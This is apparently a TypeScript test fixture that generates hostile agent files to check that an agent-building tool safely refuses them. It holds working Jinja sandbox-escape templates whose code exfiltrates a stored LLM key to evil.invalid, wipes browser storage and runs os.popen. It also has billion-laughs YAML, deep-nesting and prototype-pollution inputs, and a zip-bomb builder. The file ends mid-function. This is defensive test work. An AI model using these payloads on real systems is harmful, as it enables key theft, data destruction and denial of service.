// A corpus of hostile agent files (issue: an agent file is untrusted input). Every payload is
// generated here, in code, so nothing large is committed: Block Agent YAML, Pinecall TypeScript and
// Callboard JSON built as strings, and .zip bombs built as bytes with fflate. Each payload says
// what must happen to it, so the CLI suite (test/cli/untrusted.test.ts) and the app suite
// (e2e/untrusted.spec.ts) check the same expectations:
//
// - `import-error`: the file is refused when read, with a located message (the line it names is one
//   of `lines`, 1-based) — nesting too deep, YAML aliases that expand too far, Pinecall types that
//   explode;
// - `template-note`: the file reads, and a step goes on with a trace note
//   "Jinja error in <where>: <reason>; the text is sent as written";
// - `budget`: the file reads, and the step fails with kind 'budget', its message naming the piece of
//   agent code that was running ("the when of tool loop1 was running");
// - `names`: JavaScript's own names used as keys, parameters, fields, tools: kept faithfully, or
//   refused by lint at their place — never a crash, never a polluted prototype.
//
// The escapes aim at what an attacker wants: a marker file written on the host
// (process.getBuiltinModule('fs').writeFileSync(MARKER, 'x')), and in the page localStorage,
// indexedDB, document.cookie, document.title and fetch. Only Node (fs) and fflate are imported:
// Playwright loads this file too.
import { readFileSync } from 'node:fs';
import { deflateSync } from 'fflate';

export type PayloadFormat = 'yaml' | 'ts' | 'json';

export type PayloadKind =
  | 'template-escape'
  | 'template-loop'
  | 'predicate-loop'
  | 'expression-loop'
  | 'tool-loop'
  | 'ts-types'
  | 'yaml-alias'
  | 'nesting'
  | 'zip-bomb'
  | 'unclosed-braces'
  | 'prototype-names';

export type Outcome =
  /** Refused when read; the message is located on one of `lines` (1-based), and says `message`. */
  | { kind: 'import-error'; lines: number[]; message: RegExp }
  /** Reads; a step leaves a trace note "Jinja error in <where>: …; the text is sent as written" for each `where`. */
  | { kind: 'template-note'; where: string[]; reason?: RegExp }
  /** Reads; the first step fails with kind 'budget', its message naming what ran out. */
  | { kind: 'budget'; naming: RegExp }
  /** Reads (or lint refuses at the place); each of `names` is either kept or named by a located finding. */
  | { kind: 'names'; names: string[] };

export interface Payload {
  id: string;
  kind: PayloadKind;
  format: PayloadFormat;
  /** The file name it is written or dropped as. */
  file: string;
  text: string;
  outcome: Outcome;
  /** Caller lines for a run (one step each); the templates chained through stages need one per stage. */
  says: string[];
  /** What the payload tries, in a few words (the report's payload list). */
  what: string;
}

// ---------------------------------------------------------------------------------------------
// What an escape would run, were it ever to run as JavaScript.

/** The code every template escape tries to run: write the marker on the host, spoil the page, phone home. */
export function escapeCode(marker: string): string {
  // Single quotes only: the code sits inside a double-quoted Jinja string inside YAML or JSON.
  return [
    `try{process.getBuiltinModule('fs').writeFileSync('${marker}','x')}catch(e){}`,
    "try{localStorage.setItem('pwned','1');localStorage.removeItem('callboard.llm.key')}catch(e){}",
    "try{indexedDB.deleteDatabase('callboard')}catch(e){}",
    "try{document.cookie='pwned=1; path=/';document.title='pwned'}catch(e){}",
    "try{fetch('http://evil.invalid/steal?k='+encodeURIComponent(localStorage.getItem('callboard.llm.key')||''))}catch(e){}",
    "return 'pwned'",
  ].join(';');
}

/** A URL no test server answers; a request to it is a leak (page.on('request') sees it). */
export const EVIL_HOST = 'evil.invalid';

/** Every Jinja escape: the template text, with `P` the code above as a Jinja string literal. */
export function templateEscapes(marker: string): { name: string; template: string }[] {
  const P = `"${escapeCode(marker)}"`;
  return [
    { name: 'range.constructor', template: `{{ range.constructor(${P})() }}` },
    { name: 'cycler.constructor', template: `{{ cycler.constructor(${P})() }}` },
    { name: 'joiner.constructor', template: `{{ joiner.constructor(${P})() }}` },
    { name: 'namespace.constructor', template: `{{ namespace.constructor(${P})() }}` },
    { name: 'dict.constructor', template: `{{ dict.constructor(${P})() }}` },
    { name: 'lipsum.constructor', template: `{{ lipsum.constructor(${P})() }}` },
    { name: '"".constructor.constructor', template: `{{ "".constructor.constructor(${P})() }}` },
    { name: 'attribute chain [].constructor.constructor', template: `{{ [].constructor.constructor(${P})() }}` },
    { name: 'attribute chain through a variable', template: `{{ caller_name.constructor.constructor(${P})() }}` },
    { name: '|attr("constructor")', template: `{{ ((""|attr("constructor"))|attr("constructor"))(${P})() }}` },
    { name: 'subscripts ["constructor"]', template: `{{ ""["constructor"]["constructor"](${P})() }}` },
    { name: '{% set f = … %} then call', template: `{% set f = "".constructor.constructor %}{% set g = f(${P}) %}{{ g() }}` },
    { name: 'filters', template: `{{ (${P}|list|first).constructor.constructor(${P})() }}{{ range|tojson }}{{ [${P}]|map("constructor")|list }}` },
    { name: 'macro', template: `{% macro m(x) %}{{ x.constructor.constructor(${P})() }}{% endmacro %}{{ m("") }}` },
    { name: 'macro.constructor', template: `{% macro m() %}hi{% endmacro %}{{ m.constructor(${P})() }}` },
    { name: '__proto__ chain', template: `{{ "".__proto__.constructor.constructor(${P})() }}` },
    { name: '__class__ chain', template: '{{ "".__class__.__mro__[1].__subclasses__() }}' },
    { name: '__globals__ chain', template: '{{ cycler.__init__.__globals__.os.popen("touch /tmp/pwned").read() }}{{ self.__init__.__globals__ }}' },
  ];
}

/** Templates that would never end, or end only after eating the host's memory. */
export const TEMPLATE_LOOPS = {
  nested: '{% for i in range(0,100000) %}{% for j in range(0,100000) %}x{% endfor %}{% endfor %}',
  huge: '{{ range(0, 300000000) | length }}',
  hugeLoop: '{% for i in range(0, 300000000) %}{% endfor %}',
  /** Ends in time but writes 10 million characters: past the 200,000-character cap. */
  output: '{% set ns = namespace(s="xxxxxxxxxx") %}{% for i in range(0, 20) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}',
  /** Doubles a string to 10 GB: past the sandbox's memory. */
  doubling: '{% set ns = namespace(s="xxxxxxxxxx") %}{% for i in range(0, 30) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}',
};

// ---------------------------------------------------------------------------------------------
// Small text helpers.

/** A YAML block scalar (`|-`) holding `text` as is, indented under a key at `indent` spaces. */
function block(text: string, indent: number): string {
  const pad = ' '.repeat(indent + 2);
  return '|-\n' + text.split('\n').map((line) => pad + line).join('\n');
}

/** 1-based line numbers of every line of `text` that contains `needle`. */
export function linesWith(text: string, needle: string): number[] {
  return text.split('\n').flatMap((line, i) => (line.includes(needle) ? [i + 1] : []));
}

/** `[[[…]]]` nested `depth` deep around `inner`. */
export const nestedArray = (depth: number, inner = '1'): string => '['.repeat(depth) + inner + ']'.repeat(depth);
/** `{"a":{"a":…}}` nested `depth` deep. */
export const nestedObject = (depth: number, inner = '1'): string => '{"a":'.repeat(depth) + inner + '}'.repeat(depth);

// ---------------------------------------------------------------------------------------------
// Block Agent YAML.

const YAML_HEADER = '# A hostile Block Agent: every stage content is an escape attempt.\n';

/**
 * One block whose turns are chained by a tool every step fires (the Block Agent tool call is
 * required, and `next_turn` is the block's only tool): step n renders turn n's content, so one
 * run tries one template per caller line; the personality is tried on every step.
 */
function chainedBlockAgent(personality: string, contents: string[]): string {
  const turns = contents.map((content, i) => {
    const last = i === contents.length - 1;
    const edges = last ? '' : `\n        edges:\n          - type: edge\n            conditions:\n              - source: tools\n                tool: next_turn\n                expected_value: '*'\n            connect_to: {turn_id: t${i + 1}}`;
    return `      - turn_id: t${i}\n        name: turn${i}\n        content: ${block(content, 8)}${edges}`;
  });
  return `${YAML_HEADER}personality: ${block(personality, 0)}
blocks:
  - block_id: main
    name: Main
    tools:
      - type: function
        function:
          name: next_turn
          description: Call on every caller line to go on.
          parameters:
            type: object
            properties: {}
    turns:
${turns.join('\n')}
`;
}

/** Block Agent YAML around an extra top-level key (kept as-is by the importer) holding `value`. */
function yamlWithExtra(extraLines: string): string {
  return `personality: You answer one question and hang up.
blocks:
  - block_id: main
    name: Main
    tools:
      - type: function
        function:
          name: end_call
          description: The caller is done.
          parameters:
            type: object
            properties: {}
    turns:
      - turn_id: t_only
        name: only
        content: Answer the caller's question, then say goodbye.
${extraLines}
`;
}

// ---------------------------------------------------------------------------------------------
// Callboard JSON: the sample document, changed.

/** The sample document (public/examples/clinic-booking.json), a fresh copy. */
export function sampleDocument(): any {
  return JSON.parse(readFileSync(new URL('../../public/examples/clinic-booking.json', import.meta.url), 'utf8'));
}

/** The document as the app saves it; `deepLine` puts one value on a line of its own (for its line number). */
function jsonText(doc: unknown): string {
  return JSON.stringify(doc, null, 2) + '\n';
}

/** A tool of the sample, scoped everywhere, with its own name: the base of the generated ones. */
function plainTool(doc: any, name: string, extra: Record<string, unknown>): any {
  const base = doc.tools.find((t: any) => t.name === 'end_call');
  return { ...structuredClone(base), id: `t_${name}`, name, description: `Never call ${name}.`, scope: { kind: 'all' }, ...extra };
}

// ---------------------------------------------------------------------------------------------
// Pinecall TypeScript.

function pinecallClass(name: string, members: string, persona = 'You answer the caller.', header = ''): string {
  return `import { Agent, state, tool, type Stages } from "@pinecall/agents";
${header}
/** ${persona} */
export default class ${name} extends Agent {
${members}
}
`;
}

// ---------------------------------------------------------------------------------------------
// The corpus.

export interface CorpusOptions {
  /** Where an escape would write its marker file on the host. */
  marker: string;
}

export function corpus({ marker }: CorpusOptions): Payload[] {
  const escapes = templateEscapes(marker);
  const out: Payload[] = [];

  // --- Template escapes, Block Agent YAML: the personality and a chain of stages, one escape each.
  {
    const [first, ...rest] = escapes;
    const text = chainedBlockAgent(`You are the front desk. ${first.template}`, rest.map((e) => `Help the caller. ${e.template}`));
    out.push({
      id: 'yaml-template-escapes',
      kind: 'template-escape',
      format: 'yaml',
      file: 'template-escapes.yaml',
      text,
      outcome: { kind: 'template-note', where: ['the personality', ...rest.map((_, i) => `stage turn${i}`)] },
      // Step n runs on turn n-1; entering the last turn (no edges) renders it and ends the call.
      says: rest.slice(1).map((_, i) => `Line ${i + 1}, please go on.`),
      what: `every Jinja escape (${escapes.map((e) => e.name).join('; ')}), one per stage content plus the personality, each trying to write the marker, clear localStorage, delete IndexedDB, set document.cookie/title and fetch ${EVIL_HOST}`,
    });
  }
  // The same escapes in a Callboard JSON document (persona, stage instructions), Block Agent target.
  {
    const doc = sampleDocument();
    doc.target = 'block-agent';
    doc.opening = 'caller';
    doc.persona = `${doc.persona} ${escapes[6].template}`;
    doc.stages = doc.stages.map((s: any) => (s.id === doc.entryStageId ? { ...s, instructions: `${s.instructions} ${escapes[11].template}` } : s));
    out.push({
      id: 'json-template-escapes',
      kind: 'template-escape',
      format: 'json',
      file: 'template-escapes.callboard.json',
      text: jsonText(doc),
      outcome: { kind: 'template-note', where: ['the personality', 'stage greet'] },
      says: ['Hello there, good morning.'],
      what: `"".constructor.constructor in the persona and {% set f = … %} then call in the entry stage of the sample (Block Agent target)`,
    });
  }
  // --- Template loops and huge ranges.
  {
    const contents = [TEMPLATE_LOOPS.huge, TEMPLATE_LOOPS.output, TEMPLATE_LOOPS.doubling, TEMPLATE_LOOPS.hugeLoop];
    const text = chainedBlockAgent(`Front desk. ${TEMPLATE_LOOPS.nested}`, contents.map((c) => `Help. ${c}`));
    out.push({
      id: 'yaml-template-loops',
      kind: 'template-loop',
      format: 'yaml',
      file: 'template-loops.yaml',
      text,
      outcome: { kind: 'template-note', where: ['the personality', ...contents.map((_, i) => `stage turn${i}`)], reason: /took longer than 1 s|needs more than \d+ MB|longer than 200,000 characters|string too long/ },
      says: ['Hello there.', 'Go on.', 'Go on again.'],
      what: 'a 100,000 × 100,000 nested for loop in the personality; in the stages {{ range(0, 300000000) | length }}, a string doubled to 10 million characters (past the output cap), one doubled to 10 GB, and an empty 300-million loop',
    });
  }
  // --- 400 KB of `{{`: lint's placeholder scan and the template's error locator must stay linear.
  {
    const text = chainedBlockAgent(`Front desk. ${'{{'.repeat(200_000)}`, ['Help the caller.']);
    out.push({
      id: 'yaml-unclosed-braces',
      kind: 'unclosed-braces',
      format: 'yaml',
      file: 'braces.yaml',
      text,
      outcome: { kind: 'template-note', where: ['the personality'], reason: /never closed|took longer than 1 s to render/ },
      says: ['Hello there.'],
      what: 'a personality of 200,000 unclosed {{ (400 KB)',
    });
  }
  // --- `when` predicates that loop forever: 60 tools of them (Pinecall TS and JSON).
  {
    const tools = Array.from({ length: 60 }, (_, i) => `  /** Never call loop${i}. */
  @tool({ when: (s) => { while (true) {} } })
  async loop${i}() {
    return "never";
  }`).join('\n\n');
    const members = `  caller = "";

${tools}

  /** The caller is done. */
  @tool()
  async end_call() {
    return "bye";
  }`;
    out.push({
      id: 'ts-when-loops',
      kind: 'predicate-loop',
      format: 'ts',
      file: 'when-loops.tsx',
      text: pinecallClass('WhenLoops', members),
      outcome: { kind: 'budget', naming: /the when of tool loop\d+ was running/ },
      says: ['Hello there.'],
      what: '60 tools whose when: (s) => { while (true) {} } never returns (Pinecall class)',
    });
    const doc = sampleDocument();
    doc.opening = 'caller';
    doc.tools = [...doc.tools, ...Array.from({ length: 60 }, (_, i) => plainTool(doc, `loop${i}`, { when: '(s) => { while (true) {} }' }))];
    out.push({
      id: 'json-when-loops',
      kind: 'predicate-loop',
      format: 'json',
      file: 'when-loops.callboard.json',
      text: jsonText(doc),
      outcome: { kind: 'budget', naming: /the when of tool loop\d+ was running/ },
      says: ['Hello there.'],
      what: 'the sample with 60 more tools whose `when` loops forever (Callboard JSON, Pinecall target)',
    });
  }
  // --- Expression conditions that loop forever: 60 edges of them out of the entry stage (JSON, Block Agent).
  {
    const doc = sampleDocument();
    doc.target = 'block-agent';
    doc.opening = 'caller';
    const loops = Array.from({ length: 60 }, (_, i) => ({ id: `e_loop${i}`, from: doc.entryStageId, to: 's_identity', kind: 'edge', conditions: [{ kind: 'expression', expression: `(() => { while (true) {} })() || ${i}` }] }));
    doc.edges = [...loops, ...doc.edges];
    out.push({
      id: 'json-expression-loops',
      kind: 'expression-loop',
      format: 'json',
      file: 'expression-loops.callboard.json',
      text: jsonText(doc),
      outcome: { kind: 'budget', naming: /while \(true\)/ },
      says: ['Hello there, good morning.'],
      what: '60 edges out of the entry stage whose expression condition (() => { while (true) {} })() never ends (Callboard JSON, Block Agent target)',
    });
    // The Pinecall way to write one: a state edge after a tool's body, in the exporter's own shape.
    const ts = pinecallClass('GuardLoops', `  @state stage: Stages<"ask" | "done"> = "ask";

  render() {
    return <>{this.stage === "ask" && <p>Run the check now.</p>}</>;
  }

  /** Run the check on every caller line. */
  @tool({ stage: "ask" })
  async check() {
    const result = await (async () => {
      return "checked";
    })();
    // Where this tool moves the call: the document's edges, tried in order once the body ran.
${Array.from({ length: 60 }, (_, i) => `    ${i ? 'else ' : ''}if (this.stage === "ask" && ((() => { while (true) {} })() || ${i})) this.stage = "done"; // state edge`).join('\n')}
    return result;
  }

  /** The caller is done. */
  @tool({ stage: "done" })
  async end_call() {
    return "bye";
  }`);
    out.push({
      id: 'ts-guard-loops',
      kind: 'expression-loop',
      format: 'ts',
      file: 'guard-loops.tsx',
      text: ts,
      outcome: { kind: 'budget', naming: /check|while \(true\)/ },
      says: ['Please run the check.'],
      what: 'a Pinecall tool with 60 state edges whose condition loops forever',
    });
  }
  // --- Tool bodies that loop (the tool's own timeout 300 s: the step budget must stop them).
  {
    const doc = sampleDocument();
    doc.target = 'block-agent';
    doc.opening = 'caller';
    doc.tools = doc.tools.map((t: any) => (t.id === 't_intent' || t.id === 't_not_yet' ? { ...t, implementation: 'while (true) {}\nreturn "never";', timeout: 300 } : t));
    out.push({
      id: 'json-tool-loop',
      kind: 'tool-loop',
      format: 'json',
      file: 'tool-loop.callboard.json',
      text: jsonText(doc),
      outcome: { kind: 'budget', naming: /tool (is_schedule_appointment|caller_intent_not_yet_detected) was running/ },
      says: ['Hello there, good morning.'],
      what: 'both tools of the entry block loop forever (while (true) {}) with a 300 s timeout (Callboard JSON, Block Agent target: a tool call is required every step)',
    });
    const ts = pinecallClass('SpinDesk', `  @state stage: Stages<"spin" | "done"> = "spin";

  render() {
    return <>{this.stage === "spin" && <p>Spin the wheel now.</p>}</>;
  }

  /** Spin the wheel. */
  @tool({ stage: "spin", timeout: 300 })
  async spin_wheel() {
    let n = 0;
    for (;;) n++;
    return n;
  }`);
    out.push({
      id: 'ts-tool-loop',
      kind: 'tool-loop',
      format: 'ts',
      file: 'spin.tsx',
      text: ts,
      outcome: { kind: 'budget', naming: /tool spin_wheel was running/ },
      says: ['Please spin the wheel.'],
      what: 'a Pinecall tool whose body is for (;;) n++ with timeout 300, named by the stage instructions so the offline model calls it',
    });
  }
  // --- Pinecall interfaces that explode: 30 interfaces, each with two fields of the previous.
  {
    const interfaces = ['interface T0 { a: string; b: string }', ...Array.from({ length: 30 }, (_, i) => `interface T${i + 1} { a: T${i}; b: T${i} }`)].join('\n');
    const text = pinecallClass('TypeBomb', `  /** Book with the details. */
  @tool()
  async book(details: T30) {
    return "ok";
  }`, 'You book things.', interfaces);
    out.push({
      id: 'ts-type-explosion',
      kind: 'ts-types',
      format: 'ts',
      file: 'type-bomb.tsx',
      text,
      outcome: { kind: 'import-error', lines: [...linesWith(text, 'interface T'), ...linesWith(text, 'details: T30')], message: /\S/ },
      says: ['Hello.'],
      what: '31 interfaces T0…T30, each with two fields typed as the previous: T30 expands to 2^31 schema nodes',
    });
  }
  // --- YAML alias amplification.
  {
    const big = 'x'.repeat(3 * 1024 * 1024);
    const aliases = Array.from({ length: 100 }, () => '    - *big').join('\n');
    const text = yamlWithExtra(`metadata:\n  blob: &big "${big}"\n  copies:\n${aliases}`);
    out.push({
      id: 'yaml-alias-big-anchor',
      kind: 'yaml-alias',
      format: 'yaml',
      file: 'alias-big.yaml',
      text,
      outcome: { kind: 'import-error', lines: linesWith(text, '- *big'), message: /alias|\*big/i },
      says: ['Hello.'],
      what: 'a 3 MB anchor aliased 100 times (300 MB when expanded) in a kept top-level key',
    });
    const levels = ['  l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i <= 9; i++) levels.push(`  l${i}: &l${i} [${Array.from({ length: 10 }, () => `*l${i - 1}`).join(',')}]`);
    const laughs = yamlWithExtra(`metadata:\n${levels.join('\n')}`);
    out.push({
      id: 'yaml-alias-laughs',
      kind: 'yaml-alias',
      format: 'yaml',
      file: 'billion-laughs.yaml',
      text: laughs,
      outcome: { kind: 'import-error', lines: linesWith(laughs, '*l'), message: /alias|\*l\d/i },
      says: ['Hello.'],
      what: 'billion laughs: 10 levels of 10 aliases each (10^10 nodes when expanded)',
    });
  }
  // --- Nesting 5,000 and 10,000 deep.
  {
    const yaml5k = yamlWithExtra(`metadata:\n  deep: ${nestedArray(5000)}`);
    out.push({
      id: 'yaml-flow-5000',
      kind: 'nesting',
      format: 'yaml',
      file: 'deep-flow-5000.yaml',
      text: yaml5k,
      outcome: { kind: 'import-error', lines: linesWith(yaml5k, 'deep: ['), message: /levels deep/ },
      says: ['Hello.'],
      what: 'a YAML flow sequence nested 5,000 deep in a kept key',
    });
    const yaml10k = yamlWithExtra(`metadata:\n  deep: ${'{a: '.repeat(10000)}1${'}'.repeat(10000)}`);
    out.push({
      id: 'yaml-flow-10000',
      kind: 'nesting',
      format: 'yaml',
      file: 'deep-flow-10000.yaml',
      text: yaml10k,
      outcome: { kind: 'import-error', lines: linesWith(yaml10k, 'deep: {'), message: /levels deep/ },
      says: ['Hello.'],
      what: 'a YAML flow mapping nested 10,000 deep in a kept key',
    });
    // JSON: a mock value 5,000 deep (on a line of its own), and a whole file 10,000 deep.
    const doc = sampleDocument();
    const DEEP = '"__DEEP_MOCK__"';
    doc.tools = doc.tools.map((t: any) => (t.name === 'end_call' ? { ...t, mock: '__DEEP_MOCK__' } : t));
    const json5k = jsonText(doc).replace(DEEP, nestedArray(5000));
    out.push({
      id: 'json-mock-5000',
      kind: 'nesting',
      format: 'json',
      file: 'deep-mock-5000.callboard.json',
      text: json5k,
      outcome: { kind: 'import-error', lines: linesWith(json5k, '"mock": ['), message: /levels deep/ },
      says: ['Hello.'],
      what: 'the sample with a tool mock result nested 5,000 deep (Callboard JSON)',
    });
    const json10k = `{"format": "callboard.agent", "version": 1, "name": ${nestedObject(10000)}}\n`;
    out.push({
      id: 'json-file-10000',
      kind: 'nesting',
      format: 'json',
      file: 'deep-file-10000.callboard.json',
      text: json10k,
      outcome: { kind: 'import-error', lines: [1], message: /levels deep/ },
      says: ['Hello.'],
      what: 'a Callboard JSON file nested 10,000 deep',
    });
    const tsDeep = pinecallClass('DeepDefault', `  slots: any[] = ${nestedArray(5000)};

  /** The caller is done. */
  @tool()
  async end_call() {
    return "bye";
  }`);
    out.push({
      id: 'ts-default-5000',
      kind: 'nesting',
      format: 'ts',
      file: 'deep-default.tsx',
      text: tsDeep,
      outcome: { kind: 'import-error', lines: linesWith(tsDeep, 'slots: any[] = ['), message: /deep/ },
      says: ['Hello.'],
      what: 'a Pinecall state field whose default is an array literal nested 5,000 deep',
    });
  }
  // --- JavaScript's own names as keys, parameters, fields and tools.
  {
    const yaml = `__proto__:
  polluted: yes
constructor: {polluted: yes}
personality: You answer. {{ constructor }} {{ __proto__ }} {{ toString }}
blocks:
  - block_id: __proto__
    name: constructor
    tools:
      - type: function
        function:
          name: constructor
          description: Record what the caller says.
          parameters:
            type: object
            properties:
              __proto__: {type: string, description: A value.}
              constructor: {type: string, description: Another value.}
              hasOwnProperty: {type: string, description: A third value.}
            required: [__proto__]
      - type: function
        function:
          name: toString
          description: The caller is done.
          parameters:
            type: object
            properties: {}
    turns:
      - turn_id: __proto__
        name: valueOf
        content: "Ask for the value. {{ __proto__ }} {{ constructor.constructor }}"
`;
    out.push({
      id: 'yaml-prototype-names',
      kind: 'prototype-names',
      format: 'yaml',
      file: 'prototype-names.yaml',
      text: yaml,
      outcome: { kind: 'names', names: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'] },
      says: ['My value is 42.'],
      what: '__proto__ and constructor as top-level keys, block_id, turn_id, tool names (constructor, toString), parameter names (__proto__, constructor, hasOwnProperty), and in templates',
    });
    const doc = sampleDocument();
    doc.opening = 'caller';
    doc.state.push({ id: 'f_proto', name: '__proto__', type: 'string', default: '', pii: false, visibility: 'private' });
    doc.state.push({ id: 'f_ctor', name: 'constructor', type: 'string', default: '', pii: false, visibility: 'private' });
    // JSON.parse, not object literals: a literal `__proto__:` sets the prototype, JSON.parse makes an own key.
    doc.tools.push(plainTool(doc, 'hasOwnProperty', JSON.parse(`{
      "parameters": {"type": "object", "properties": {"__proto__": {"type": "string"}, "toString": {"type": "string"}}, "required": ["__proto__"], "additionalProperties": false},
      "mock": {"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}
    }`)));
    out.push({
      id: 'json-prototype-names',
      kind: 'prototype-names',
      format: 'json',
      file: 'prototype-names.callboard.json',
      text: jsonText(doc),
      outcome: { kind: 'names', names: ['__proto__', 'constructor', 'hasOwnProperty', 'toString'] },
      says: ['Hello there, good morning.'],
      what: 'the sample with state fields __proto__ and constructor, a tool hasOwnProperty with parameters __proto__ and toString, a mock {"__proto__": …, "constructor": {"prototype": …}}',
    });
    // A top-level "__proto__" key: an importer that spreads or assigns the parsed object would set
    // the document's prototype. The schema has no such property: refused at its line.
    const protoKey = jsonText(sampleDocument()).replace('"format"', '"__proto__": {"polluted": "yes", "target": "block-agent"},\n  "format"');
    out.push({
      id: 'json-proto-key',
      kind: 'prototype-names',
      format: 'json',
      file: 'proto-key.callboard.json',
      text: protoKey,
      outcome: { kind: 'import-error', lines: linesWith(protoKey, '"__proto__"'), message: /__proto__/ },
      says: ['Hello there, good morning.'],
      what: 'the sample with a top-level "__proto__": {"polluted": "yes", "target": "block-agent"} key',
    });
    const ts = pinecallClass('ProtoNames', `  __proto__ = "";
  toString = "";
  valueOf: number = 0;

  /** Record a value the caller says. */
  @tool()
  async hasOwnProperty(constructor: string, __proto__?: string) {
    this.toString = constructor;
    return { constructor, __proto__ };
  }

  /** The caller is done. */
  @tool()
  async isPrototypeOf() {
    return "bye";
  }`, 'You answer {{ __proto__ }} {{ constructor.constructor }}.');
    out.push({
      id: 'ts-prototype-names',
      kind: 'prototype-names',
      format: 'ts',
      file: 'proto-names.tsx',
      text: ts,
      outcome: { kind: 'names', names: ['__proto__', 'toString', 'valueOf', 'hasOwnProperty', 'constructor', 'isPrototypeOf'] },
      says: ['My constructor is Dana.'],
      what: 'a Pinecall class with state fields __proto__, toString, valueOf; tools hasOwnProperty(constructor, __proto__) and isPrototypeOf; placeholders {{ __proto__ }} {{ constructor.constructor }}',
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Hostile conversation tests (tests/*.golden.json), read by `callboard test` and from a .zip.

export interface GoldenPayload {
  id: string;
  kind: PayloadKind;
  /** The file name, ending in .golden.json. */
  file: string;
  text: string;
  outcome: Outcome;
  what: string;
}

export function hostileGoldens(): GoldenPayload[] {
  const deep = `{"name": "deep", "input": ["Hello."], "expect": {"says": ["x"]}, "state": {"deep": ${nestedArray(10_000)}}}\n`;
  const proto = `{
  "__proto__": {"polluted": "yes"},
  "name": "proto",
  "input": ["Please spin the wheel."],
  "call": {"__proto__": {"polluted": "yes"}, "constructor": "x", "toString": "y"},
  "expect": {"tools": ["spin_wheel"]}
}
`;
  return [
    { id: 'golden-10000', kind: 'nesting', file: 'deep.golden.json', text: deep, outcome: { kind: 'import-error', lines: [1], message: /levels deep/ }, what: 'a conversation test whose state holds an array nested 10,000 deep' },
    { id: 'golden-proto', kind: 'prototype-names', file: 'proto.golden.json', text: proto, outcome: { kind: 'names', names: ['__proto__', 'constructor', 'toString'] }, what: 'a conversation test with a top-level "__proto__" key and call facts __proto__, constructor, toString' },
  ];
}

/** A conversation test that holds when no escape ran: nothing said "pwned". */
export function harmlessGolden(name: string, input: string[]): string {
  return JSON.stringify({ name, input, expect: { not: ['pwned'] } }, null, 2) + '\n';
}

// ---------------------------------------------------------------------------------------------
// .zip bombs, built here as bytes: a small agent file beside test files that inflate to a lot.

const ZIP_AGENT = yamlWithExtra('').trimEnd() + '\n';

let crcTable: Uint32Array | undefined;
function crc32(data: Uint8Array): number {
  if (!crcTable) {
    crcTable = new Uint32Array(256);
    for (let n = 0; n < 256; n++) {
      let c = n;
      for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
      crcTable[n] = c >>> 0;
    }
  }
  let crc = 0xffffffff;
  for (let i = 0; i < data.length; i++) crc = crcTable[(crc ^ data[i]) & 0xff] ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

interface ZipEntry {
  name: string;
  /** Deflated bytes (method 8), or stored bytes when `stored`. */
  data: Uint8Array;
  stored?: boolean;
  crc: number;
  /** What the headers say the entry inflates to (a lie when it differs from the truth). */
  declaredSize: number;
}

/** A .zip from entries whose data is already compressed: headers written by hand, so sizes may lie. */
function writeZip(entries: ZipEntry[]): Uint8Array {
  const enc = new TextEncoder();
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = enc.encode(e.name);
    const method = e.stored ? 0 : 8;
    const local = new Uint8Array(30 + name.length);
    const lv = new DataView(local.buffer);
    lv.setUint32(0, 0x04034b50, true);
    lv.setUint16(4, 20, true);
    lv.setUint16(8, method, true);
    lv.setUint32(14, e.crc, true);
    lv.setUint32(18, e.data.length, true);
    lv.setUint32(22, e.declaredSize >>> 0, true);
    lv.setUint16(26, name.length, true);
    local.set(name, 30);
    const central = new Uint8Array(46 + name.length);
    const cv = new DataView(central.buffer);
    cv.setUint32(0, 0x02014b50, true);
    cv.setUint16(4, 20, true);
    cv.setUint16(6, 20, true);
    cv.setUint16(10, method, true);
    cv.setUint32(16, e.crc, true);
    cv.setUint32(20, e.data.length, true);
    cv.setUint32(24, e.declaredSize >>> 0, true);
    cv.setUint16(28, name.length, true);
    cv.setUint32(42, offset, true);
    central.set(name, 46);
    locals.push(local, e.data);
    centrals.push(central);
    offset += local.length + e.data.length;
  }
  const cdSize = centrals.reduce((n, c) => n + c.length, 0);
  const end = new Uint8Array(22);
  const ev = new DataView(end.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, Math.min(entries.length, 0xffff), true);
  ev.setUint16(10, Math.min(entries.length, 0xffff), true);
  ev.setUint32(12, cdSize, true);
  ev.setUint32(16, offset, true);
  const out = new Uint8Array(offset + cdSize + end.length);
  let at = 0;
  for (const part of [...locals, ...centrals, end]) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

export interface ZipPayload {
  id: string;
  kind: 'zip-bomb';
  file: string;
  bytes: Uint8Array;
  /** What its headers claim, all entries together (bytes). */
  declaredBytes: number;
  /** What it would truly inflate to, all entries together (bytes). */
  inflatedBytes: number;
  what: string;
}

let spaces: { data: Uint8Array; crc: number; size: number } | undefined;
/** 16 MB of spaces after `{}`: a valid (if odd) golden file, deflated once (~16 KB). */
function spacesEntry() {
  if (!spaces) {
    const size = 16 * 1024 * 1024;
    const raw = new Uint8Array(size).fill(0x20);
    raw.set(new TextEncoder().encode('{}'), 0);
    spaces = { data: deflateSync(raw, { level: 9 }), crc: crc32(raw), size };
  }
  return spaces;
}

function agentEntry(): ZipEntry {
  const raw = new TextEncoder().encode(ZIP_AGENT);
  return { name: 'bomb/agent.yaml', data: deflateSync(raw), crc: crc32(raw), declaredSize: raw.length };
}

/**
 * The .zip bombs: a few MB each, declaring or inflating to gigabytes. Built on demand (deflating
 * 16 MB of spaces takes about a second); the entries share one deflated buffer.
 */
export function zipBombs(): ZipPayload[] {
  const s = spacesEntry();
  const N = 200;
  const honest: ZipEntry[] = [agentEntry(), ...Array.from({ length: N }, (_, i) => ({ name: `bomb/tests/t${i}.golden.json`, data: s.data, crc: s.crc, declaredSize: s.size }))];
  const lying: ZipEntry[] = [agentEntry(), ...Array.from({ length: N }, (_, i) => ({ name: `bomb/tests/t${i}.golden.json`, data: s.data, crc: s.crc, declaredSize: 100 }))];
